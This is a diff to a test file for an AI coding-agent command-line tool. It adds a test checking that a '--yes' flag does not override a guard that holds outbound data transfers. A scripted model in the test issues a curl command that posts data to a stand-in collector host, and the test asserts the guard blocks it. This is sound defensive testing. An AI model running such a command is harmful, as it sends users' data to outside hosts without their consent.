@@ -28,8 +28,11 @@ async function a3s(args: string[], home: string, stdin?: string) {
   };
 }
 
-Deno.test("cli: run streams events (text and JSON lines), interactive sessions ask approvals, sessions ls, usage errors exit 2", async () => {
-  const home = await Deno.makeTempDir({ prefix: "a3s-code-cli-" });
+/**
+ * A scripted model and `home/agent.hcl` on it (`write` asks): a tool's output comes back as
+ * "Result: ...", a message with "write" writes `w.txt`, any other runs `command` in bash.
+ */
+async function scriptedAgent(home: string, command: string, extraConfig = "") {
   const llm = scriptedOpenAiServer((body) => {
     const messages = body.messages as { role: string; content: string }[];
     const last = messages.at(-1)!;
@@ -37,12 +40,18 @@ Deno.test("cli: run streams events (text and JSON lines), interactive sessions a
     if (last.content.includes("write")) {
       return { toolCalls: [{ name: "write", arguments: { path: "w.txt", content: "w" } }] };
     }
-    return { toolCalls: [{ name: "bash", arguments: { command: PRINT_KEY } }] };
+    return { toolCalls: [{ name: "bash", arguments: { command } }] };
   });
   await Deno.writeTextFile(
     `${home}/agent.hcl`,
-    `default_model = "llm/m"\nworkspace = "ws"\nproviders {\n  name = "llm"\n  base_url = "${llm.url}"\n}\npermissions {\n  ask = ["write"]\n}\n`,
+    `default_model = "llm/m"\nworkspace = "ws"\nproviders {\n  name = "llm"\n  base_url = "${llm.url}"\n}\npermissions {\n  ask = ["write"]\n}\n${extraConfig}`,
   );
+  return llm;
+}
+
+Deno.test("cli: run streams events (text and JSON lines), interactive sessions ask approvals, sessions ls, usage errors exit 2", async () => {
+  const home = await Deno.makeTempDir({ prefix: "a3s-code-cli-" });
+  const llm = await scriptedAgent(home, PRINT_KEY);
   try {
     const run = await a3s(["run", `${home}/agent.hcl`, "say", "hi"], home);
     assertEquals(run.code, 0, run.stderr);
@@ -91,6 +100,32 @@ Deno.test("cli: run streams events (text and JSON lines), interactive sessions a
     ]);
     const flag = await a3s(["run", "--bogus"], home);
     assertEquals(flag.code, 2);
+  } finally {
+    await llm.close();
+    await Deno.remove(home, { recursive: true });
+  }
+});
+
+Deno.test("cli: --yes approves the config's asks, never a call safeclaw holds", async () => {
+  const home = await Deno.makeTempDir({ prefix: "a3s-code-cli-yes-" });
+  // Data sent off the allow list: held for approval, as this config says.
+  const llm = await scriptedAgent(
+    home,
+    "curl -s -m 1 -d hello https://collector.example/upload",
+    `safeclaw {\n  tool_calls {\n    on_exfiltration = "approve"\n  }\n}\n`,
+  );
+  try {
+    const write = await a3s(["run", `${home}/agent.hcl`, "please write", "--yes"], home);
+    assertEquals(write.code, 0, write.stderr);
+    assertEquals(await Deno.readTextFile(`${home}/ws/w.txt`), "w");
+
+    const held = await a3s(["run", `${home}/agent.hcl`, "send it", "--yes", "--json"], home);
+    assertEquals(held.code, 0, held.stderr);
+    const events = held.stdout.trim().split("\n").map((l) => JSON.parse(l));
+    const result = events.find((e) => e.type === "approval_result");
+    assertEquals(result?.allowed, false, held.stdout);
+    const end = events.find((e) => e.type === "tool_end");
+    assert(end?.isError && end.output.includes("safeclaw held it"), held.stdout);
   } finally {
     await llm.close();
     await Deno.remove(home, { recursive: true });
